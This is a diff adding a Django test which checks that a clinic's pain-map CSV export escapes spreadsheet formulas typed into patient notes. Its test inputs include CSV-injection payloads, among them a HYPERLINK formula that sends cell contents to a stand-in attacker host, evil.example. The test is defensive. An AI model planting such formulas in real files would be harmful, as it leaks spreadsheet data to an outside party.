@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
+import pytest
 from django.conf import settings
 from django.test import Client
 
@@ -104,6 +107,21 @@ def test_it_exports_every_mark_as_csv(personas: Personas) -> None:
     rows = response.content.decode().strip().splitlines()
     assert rows[0].startswith("drawn_at,drawn_via,region")
     assert "neck_back_upper_right" in rows[1] and ",6," in rows[1]
+
+
+@pytest.mark.parametrize(
+    "note", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1"]
+)
+def test_the_csv_never_hands_a_spreadsheet_a_formula(personas: Personas, note: str) -> None:
+    """A patient writes the note through a drawing link; the clinic opens the CSV."""
+    token = create_drawing_link(actor=personas.therapist_a, patient=personas.patient)
+    Client().post(f"/draw/{token}/", {"marks": marks(("jaw_left", 3)), "note": note})
+    assert PainMapRecord.objects.get().note == note
+
+    response = logged_in(personas.therapist_a).get(f"/patients/{personas.patient.pk}/pain-maps.csv")
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["note"] == "'" + note
+    assert row["intensity"] == "3"
 
 
 def test_it_shows_the_latest_map_on_the_patient_page(personas: Personas) -> None:
